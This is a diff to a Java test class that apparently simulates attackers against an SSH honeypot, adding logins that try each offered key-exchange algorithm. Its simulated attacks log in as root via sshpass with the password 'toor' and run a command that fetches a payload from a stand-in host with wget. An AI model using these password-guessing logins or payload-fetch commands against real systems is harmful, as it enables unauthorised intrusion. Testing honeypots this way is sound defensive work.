@@ -19,6 +19,14 @@ final class Attackers {
 
     private static final Duration LIMIT = Duration.ofSeconds(60);
 
+    /** One of each kind that the SSH trap offers: what the bundle lacks of a library shows only when it is spoken. */
+    static final List<String> KEY_EXCHANGES = List.of(
+            "sntrup761x25519-sha512@openssh.com",
+            "curve25519-sha256",
+            "ecdh-sha2-nistp521",
+            "diffie-hellman-group-exchange-sha256",
+            "diffie-hellman-group14-sha256");
+
     /** @param host where it ran */
     record Attack(Host host, Command.Result result) {}
 
@@ -53,6 +61,9 @@ final class Attackers {
         attack(
                 "login",
                 ssh(List.of("env", "-u", "SSH_ASKPASS", "-u", "SSH_ASKPASS_REQUIRE", "sshpass", "-p", "toor"), target));
+        for (int i = 0; i < KEY_EXCHANGES.size(); i++) {
+            attack("kex-" + i, kex(KEY_EXCHANGES.get(i), target));
+        }
         attack("guesser", ssh(List.of("setsid", "-w"), target));
         attack("curious", "curl", "-sS", "-i", "-m", "20", "http://" + target + "/");
         attack(
@@ -105,7 +116,15 @@ final class Attackers {
         return script;
     }
 
-    private static String[] ssh(List<String> before, String target) {
+    private static String[] kex(String exchange, String target) {
+        return ssh(
+                List.of("env", "-u", "SSH_ASKPASS", "-u", "SSH_ASKPASS_REQUIRE", "sshpass", "-p", exchange),
+                target,
+                "-o",
+                "KexAlgorithms=" + exchange);
+    }
+
+    private static String[] ssh(List<String> before, String target, String... options) {
         List<String> words = new ArrayList<>(before);
         words.addAll(List.of(
                 "ssh",
@@ -120,9 +139,9 @@ final class Attackers {
                 "-o",
                 "NumberOfPasswordPrompts=4",
                 "-o",
-                "ConnectTimeout=10",
-                "root@" + target,
-                "uname -a; wget http://192.0.2.66/x"));
+                "ConnectTimeout=10"));
+        words.addAll(List.of(options));
+        words.addAll(List.of("root@" + target, "uname -a; wget http://192.0.2.66/x"));
         return words.toArray(String[]::new);
     }
 
